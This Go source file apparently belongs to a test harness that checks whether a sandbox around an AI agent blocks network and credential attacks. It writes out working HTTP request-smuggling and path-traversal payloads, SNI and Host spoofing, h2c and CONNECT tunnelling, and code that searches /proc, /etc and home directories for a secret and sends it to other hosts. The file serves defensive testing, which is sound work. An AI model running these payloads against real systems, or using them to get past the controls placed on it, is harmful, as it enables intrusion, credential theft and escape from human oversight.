package attacks

import (
	"bufio"
	"bytes"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/hex"
	"errors"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"time"
)

type rawConn = syscall.RawConn

// tlsConfig trusts the stage's authority without a jail, and what the jail's bundle
// trusts in one.
func tlsConfig(t *Target, name string, protos ...string) *tls.Config {
	c := &tls.Config{ServerName: name, RootCAs: roots(t), NextProtos: protos}
	if name == "" || name != t.Hosts.TLS && name != t.Hosts.Requests && name != t.Hosts.Other {
		// An attacker does not mind whose certificate he is shown.
		c.InsecureSkipVerify = true
	}
	return c
}

func roots(t *Target) *x509.CertPool {
	pool, err := x509.SystemCertPool()
	if err != nil {
		pool = x509.NewCertPool()
	}
	pool.AppendCertsFromPEM([]byte(t.Hosts.CA))
	return pool
}

// dialTLS connects to a name's port 443, leaves the mark in a request, and says how that
// ended.
func dialTLS(t *Target, host string) string {
	return sendTLS(t, host, host, "GET /"+t.Mark()+" HTTP/1.1\r\nHost: "+host+"\r\nConnection: close\r\n\r\n")
}

// sendTLS connects to host, says that it is name, and sends text. The answer is "ok"
// for a 2xx, else the status or the error.
func sendTLS(t *Target, host, name, text string) string {
	d := net.Dialer{Timeout: dialTimeout, Resolver: resolver()}
	conn, err := d.Dial("tcp", net.JoinHostPort(host, "443"))
	if err != nil {
		return netAnswer(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(dialTimeout))
	c := tls.Client(conn, tlsConfig(t, name, "http/1.1"))
	if err := c.Handshake(); err != nil {
		return tlsAnswer(err)
	}
	return exchange(c, text)
}

// sendPlain is sendTLS for plain HTTP.
func sendPlain(host, text string) string {
	d := net.Dialer{Timeout: dialTimeout, Resolver: resolver()}
	conn, err := d.Dial("tcp", net.JoinHostPort(host, "80"))
	if err != nil {
		return netAnswer(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(dialTimeout))
	return exchange(conn, text)
}

// exchange sends text and reads all answers to it.
func exchange(c net.Conn, text string) string {
	if _, err := io.WriteString(c, text); err != nil {
		return tlsAnswer(err)
	}
	r := bufio.NewReader(io.LimitReader(c, 1<<20))
	last := "EOF"
	for range 8 {
		res, err := http.ReadResponse(r, nil)
		if err != nil {
			if last == "EOF" && !errors.Is(err, io.EOF) && !errors.Is(err, io.ErrUnexpectedEOF) {
				last = tlsAnswer(err)
			}
			break
		}
		_, _ = io.Copy(io.Discard, res.Body)
		last = status(res.StatusCode)
		if res.Close {
			break
		}
		// What was sent is sent; this only waits for a second answer.
		_ = c.SetReadDeadline(time.Now().Add(secondAnswer))
	}
	return last
}

func status(code int) string {
	if code/100 == 2 {
		return "ok"
	}
	return "HTTP " + http.StatusText(code)
}

func tlsAnswer(err error) string {
	var alert tls.AlertError
	var op *net.OpError
	switch {
	case errors.As(err, &alert), errors.As(err, &op) && op.Op == "remote error":
		return "alert"
	case errors.Is(err, io.EOF), errors.Is(err, io.ErrUnexpectedEOF):
		return "EOF"
	case errors.Is(err, os.ErrDeadlineExceeded):
		return "timeout"
	}
	return netAnswer(err)
}

// ways of the gateway to refuse a request.
func httpRefused(layer string) Stop {
	return by(layer, "alert", "EOF", "ECONNRESET", "EPIPE", "timeout", "HTTP Forbidden", "HTTP Bad Request", "HTTP Misdirected Request", "HTTP Too Many Requests", "HTTP Not Implemented",
		"HTTP Method Not Allowed", "HTTP HTTP Version Not Supported", "HTTP Request Header Fields Too Large", "HTTP Expectation Failed", "HTTP Bad Gateway", "no such host")
}

// requests are attacks inside of connections to allowed hosts. Each is judged by what
// reached a server: the servers take every request to a path below /allowed/, by the
// right name, for an honest one, and look for marks in the rest.
func requests() []Attack {
	make := func(id string, line int, layer, what, class string, try func(*Target) string) Attack {
		return Attack{ID: id, Line: line, What: what, Class: class, Network: true, Without: Plain, ByMark: true, Try: try,
			Stopped: []Stop{httpRefused(layer), by(layer, "ok")}}
	}
	get := func(t *Target, path, host string) string {
		return "GET " + path + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n"
	}
	// Without a jail these are one connection to the canary servers, which take all names.
	list := []Attack{
		make("sni-other", 51, SNI, "another name in TLS than the one that was asked for", "SNI ≠ name",
			func(t *Target) string {
				return sendTLS(t, t.Hosts.TLS, t.Mark()+"."+t.Hosts.Refused, get(t, "/", t.Hosts.TLS))
			}),
		make("sni-none", 51, SNI, "TLS without a name", "no SNI",
			func(t *Target) string { return sendTLS(t, t.Hosts.TLS, "", get(t, "/"+t.Mark(), t.Hosts.TLS)) }),
		make("tls-none", 51, SNI, "no TLS at a port for TLS", "a protocol that no rule allows",
			func(t *Target) string {
				d := net.Dialer{Timeout: dialTimeout, Resolver: resolver()}
				conn, err := d.Dial("tcp", net.JoinHostPort(t.Hosts.TLS, "443"))
				if err != nil {
					return netAnswer(err)
				}
				defer conn.Close()
				_ = conn.SetDeadline(time.Now().Add(dialTimeout))
				return exchange(conn, get(t, "/"+t.Mark(), t.Hosts.TLS))
			}),
		make("host-other", 51, HostHeader, "another Host than the name that was asked for", "Host ≠ SNI",
			func(t *Target) string {
				return sendTLS(t, t.Hosts.Requests, t.Hosts.Requests, get(t, "/allowed/x", t.Mark()+"."+t.Hosts.Refused))
			}),
		make("host-twice", 51, Framing, "two Hosts", "a duplicate Host",
			func(t *Target) string {
				return sendTLS(t, t.Hosts.Requests, t.Hosts.Requests, "GET /allowed/x HTTP/1.1\r\nHost: "+t.Hosts.Requests+"\r\nHost: "+t.Mark()+"."+t.Hosts.Refused+"\r\nConnection: close\r\n\r\n")
			}),
		make("host-plain", 51, HostHeader, "another Host in plain HTTP", "Host ≠ name",
			func(t *Target) string {
				return sendPlain(t.Hosts.Plain, get(t, "/allowed/x", t.Mark()+"."+t.Hosts.Refused))
			}),
		make("absolute-form", 51, HostHeader, "a whole URL in the request line", "an absolute-form request",
			func(t *Target) string {
				return sendPlain(t.Hosts.Plain, get(t, "http://"+t.Mark()+"."+t.Hosts.Refused+"/allowed/x", t.Hosts.Plain))
			}),
		make("connect", 51, HostHeader, "CONNECT inside of an allowed connection", "a tunnel through an allowed host",
			func(t *Target) string {
				return sendPlain(t.Hosts.Plain, "CONNECT "+t.Mark()+"."+t.Hosts.Refused+":443 HTTP/1.1\r\nHost: "+t.Hosts.Plain+"\r\n\r\n")
			}),
		make("path-refused", 53, Requests, "a path that no rule allows", "a host that is allowed as a whole",
			func(t *Target) string {
				return sendTLS(t, t.Hosts.Requests, t.Hosts.Requests, get(t, "/"+t.Mark(), t.Hosts.Requests))
			}),
		make("method-refused", 53, Requests, "a method that no rule allows", "a host that is allowed as a whole",
			func(t *Target) string {
				return sendTLS(t, t.Hosts.Requests, t.Hosts.Requests, "DELETE /allowed/"+t.Mark()+" HTTP/1.1\r\nHost: "+t.Hosts.Requests+"\r\nConnection: close\r\n\r\n")
			}),
		make("keep-alive", 53, Requests, "a second request on an allowed connection", "a connection that is judged once",
			func(t *Target) string {
				return sendPlain(t.Hosts.Plain, "GET /allowed/x HTTP/1.1\r\nHost: "+t.Hosts.Plain+"\r\n\r\n"+get(t, "/"+t.Mark(), t.Hosts.Plain))
			}),
		make("upgrade-h2c", 53, Requests, "an upgrade to HTTP/2 without TLS", "CVE-2022-31813 and others: h2c smuggling",
			func(t *Target) string {
				return sendPlain(t.Hosts.Plain, "GET /allowed/x HTTP/1.1\r\nHost: "+t.Hosts.Plain+"\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"+
					"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"+get(t, "/"+t.Mark(), t.Hosts.Plain))
			}),
	}
	// A request inside of another one, or a path that the rules and the server read in two
	// ways. HOST, MARK and INNER are put in below.
	for id, text := range map[string]string{
		"cl-te":           "POST /allowed/x HTTP/1.1\r\nHost: HOST\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nINNER",
		"te-cl":           "POST /allowed/x HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\nINNER",
		"te-te":           "POST /allowed/x HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\nContent-Length: 0\r\n\r\nINNER",
		"te-space":        "POST /allowed/x HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding : chunked\r\nContent-Length: 0\r\n\r\nINNER",
		"te-vtab":         "POST /allowed/x HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: \x0bchunked\r\nContent-Length: 0\r\n\r\nINNER",
		"cl-cl":           "POST /allowed/x HTTP/1.1\r\nHost: HOST\r\nContent-Length: 0\r\nContent-Length: 9\r\n\r\nINNER",
		"cl-plus":         "POST /allowed/x HTTP/1.1\r\nHost: HOST\r\nContent-Length: +0\r\n\r\nINNER",
		"bare-lf":         "GET /allowed/x HTTP/1.1\nHost: HOST\n\nINNER",
		"obs-fold":        "GET /allowed/x HTTP/1.1\r\nHost: HOST\r\nX: a\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nINNER",
		"chunk-ext":       "POST /allowed/x HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n\r\n1;a=\nxx\r\n1\r\nx\r\n0\r\n\r\nINNER",
		"path-dotdot":     "GET /allowed/../MARK HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n",
		"path-encoded":    "GET /allowed/%2e%2e/MARK HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n",
		"path-twice":      "GET /allowed/%252e%252e/MARK HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n",
		"path-slashes":    "GET //MARK/../allowed/x HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n",
		"path-backslash":  "GET /allowed/..\\MARK HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n",
		"path-nul":        "GET /allowed/%00/../MARK HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n",
		"path-semicolon":  "GET /allowed/..;/MARK HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n",
		"method-override": "POST /allowed/MARK HTTP/1.1\r\nHost: HOST\r\nX-HTTP-Method-Override: DELETE\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
		"url-override":    "GET /allowed/x HTTP/1.1\r\nHost: HOST\r\nX-Original-URL: /MARK\r\nConnection: close\r\n\r\n",
	} {
		list = append(list, make("smuggle-"+id, 52, Framing, "a request that can be read in two ways: "+id, "request smuggling", func(t *Target) string {
			inner := "GET /" + t.Mark() + " HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n"
			return sendPlain(t.Hosts.Plain, strings.NewReplacer("HOST", t.Hosts.Plain, "MARK", t.Mark()).Replace(strings.ReplaceAll(text, "INNER", inner)))
		}))
	}
	return list
}

// secrets are attacks on credentials. In the jail the agent has a placeholder.
func secrets() []Attack {
	placed := func(id string, line int, what, class string, make func(t *Target, value string) (host, text string)) Attack {
		return Attack{ID: id, Line: line, What: what, Class: class, Network: true, Without: Plain, ByMark: true, Stopped: []Stop{httpRefused(Secrets), by(Secrets, "ok")},
			Try: func(t *Target) string {
				host, text := make(t, os.Getenv(t.Secret.Variable))
				if host == t.Hosts.Plain {
					return sendPlain(host, text)
				}
				return sendTLS(t, host, host, text)
			}}
	}
	echoed := func(id, what string, path string) Attack {
		return Attack{ID: id, Line: 62, What: what, Class: "a credential that is sent back", Network: true, Without: Plain, Stopped: []Stop{by(Secrets, "masked"), httpRefused(Secrets)},
			Try: func(t *Target) string { return echoAttack(t, path) }}
	}
	header := func(t *Target, method, path, host, more, body string) string {
		return sprint("%s %s HTTP/1.1\r\nHost: %s\r\nX-Mark: %s\r\n%sContent-Length: %d\r\nConnection: close\r\n\r\n%s", method, path, host, t.Mark(), more, len(body), body)
	}
	return []Attack{
		{ID: "secret-environment", Line: 60, What: "find the real credential in the environment", Class: "a credential in reach", Network: true, Without: Plain, Stopped: []Stop{by(Secrets, "none")},
			Try: func(t *Target) string { return find(t, []byte(strings.Join(os.Environ(), "\n"))) }},
		{ID: "secret-files", Line: 60, What: "find the real credential in a file", Class: "a credential in reach", Network: true, Without: Plain, Stopped: []Stop{by(Secrets, "none")},
			Try: func(t *Target) string {
				return findFiles(t, "/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline", "/run", "/tmp", "/home/agent", "/etc", filepath.Dir(t.Profile), t.Workspace)
			}},
		{ID: "secret-memory", Line: 60, What: "find the real credential in the memory of PID 1", Class: "a credential in reach", Network: true, Without: Looked, Stopped: []Stop{by(HidePID, "ENOENT"), by(UserNS, "EACCES", "EPERM")},
			Try: func(*Target) string { return open("/proc/1/mem", os.O_RDONLY) }},
		placed("secret-other-host", 61, "send the credential to another allowed host", "a credential for the wrong host", func(t *Target, v string) (string, string) {
			return t.Hosts.Other, header(t, "GET", "/x", t.Hosts.Other, "X-Api-Key: "+v+"\r\n", "")
		}),
		placed("secret-other-header", 61, "send the credential in another header", "a credential in the wrong place", func(t *Target, v string) (string, string) {
			return t.Hosts.Requests, header(t, "GET", "/allowed/x", t.Hosts.Requests, "X-Other: "+v+"\r\n", "")
		}),
		placed("secret-query", 61, "send the credential in a query", "a credential in the wrong place", func(t *Target, v string) (string, string) {
			return t.Hosts.Requests, header(t, "GET", "/allowed/x?k="+v, t.Hosts.Requests, "", "")
		}),
		placed("secret-path", 61, "send the credential in a path", "a credential in the wrong place", func(t *Target, v string) (string, string) {
			return t.Hosts.Requests, header(t, "GET", "/allowed/"+v, t.Hosts.Requests, "", "")
		}),
		placed("secret-body", 61, "send the credential in a body", "a credential in the wrong place", func(t *Target, v string) (string, string) {
			return t.Hosts.Requests, header(t, "POST", "/allowed/x", t.Hosts.Requests, "", "k="+v)
		}),
		placed("secret-plain", 63, "send the credential by plain HTTP", "a downgrade", func(t *Target, v string) (string, string) {
			return t.Hosts.Plain, header(t, "GET", "/allowed/x", t.Hosts.Plain, "X-Api-Key: "+v+"\r\n", "")
		}),
		{ID: "secret-redirect", Line: 63, What: "follow a redirect to another host with the credential", Class: "CVE-2018-18074: a credential that follows", Network: true, Without: Plain, ByMark: true,
			Stopped: []Stop{httpRefused(Secrets), by(Secrets, "ok")}, Try: redirectAttack},
		echoed("secret-echo-header", "have the credential sent back in a header", "/allowed/echo/header"),
		echoed("secret-echo-body", "have the credential sent back in a body", "/allowed/echo/body"),
		echoed("secret-echo-gzip", "have the credential sent back compressed", "/allowed/echo/gzip"),
		echoed("secret-echo-chunk", "have the credential sent back in pieces", "/allowed/echo/chunk"),
		echoed("secret-echo-error", "have the credential sent back in an error", "/allowed/echo/error"),
	}
}

// find looks for the real credential by its digest: this program was never told it.
func find(t *Target, data []byte) string {
	for {
		i := bytes.Index(data, []byte(t.Secret.Prefix))
		if i < 0 || len(data)-i < t.Secret.Length {
			return "none"
		}
		sum := sha256.Sum256(data[i : i+t.Secret.Length])
		if hex.EncodeToString(sum[:]) == t.Secret.SHA256 {
			return "ok"
		}
		data = data[i+1:]
	}
}

// findFiles looks through what can be read. Its own environment is in none of them.
func findFiles(t *Target, roots ...string) string {
	const most = 8 << 20
	found := "none"
	left := 2000
	for _, root := range roots {
		_ = filepath.WalkDir(root, func(path string, d os.DirEntry, err error) error {
			if left--; left < 0 || err != nil || d.IsDir() || d.Type()&(os.ModeNamedPipe|os.ModeSocket|os.ModeDevice|os.ModeSymlink) != 0 {
				return nil
			}
			f, err := os.Open(path)
			if err != nil {
				return nil
			}
			defer f.Close()
			if data, err := io.ReadAll(io.LimitReader(f, most)); err == nil && find(t, data) == "ok" {
				found = "ok"
			}
			return nil
		})
	}
	return found
}

func echoAttack(t *Target, path string) string {
	res, err := client(t).Do(newRequest(t, "https://"+t.Hosts.Requests+path))
	if err != nil {
		return tlsAnswer(err)
	}
	defer res.Body.Close()
	var all bytes.Buffer
	_ = res.Header.Write(&all)
	_, _ = io.Copy(&all, io.LimitReader(res.Body, 1<<20))
	if find(t, all.Bytes()) == "ok" {
		return "ok"
	}
	return "masked"
}

// redirectAttack is a client that takes its headers along.
func redirectAttack(t *Target) string {
	c := client(t)
	c.CheckRedirect = func(r *http.Request, via []*http.Request) error {
		r.Header = via[0].Header.Clone()
		return nil
	}
	res, err := c.Do(newRequest(t, "https://"+t.Hosts.Requests+"/allowed/redirect"))
	if err != nil {
		return tlsAnswer(err)
	}
	res.Body.Close()
	return status(res.StatusCode)
}

func newRequest(t *Target, url string) *http.Request {
	r, err := http.NewRequest(http.MethodGet, url, nil)
	if err != nil {
		return &http.Request{}
	}
	r.Header.Set("X-Api-Key", os.Getenv(t.Secret.Variable))
	r.Header.Set("X-Mark", t.Mark())
	return r
}

func client(t *Target) *http.Client {
	d := net.Dialer{Timeout: dialTimeout, Resolver: resolver()}
	return &http.Client{Timeout: dialTimeout, Transport: &http.Transport{DialContext: d.DialContext, TLSClientConfig: &tls.Config{RootCAs: roots(t)}, DisableKeepAlives: true}}
}
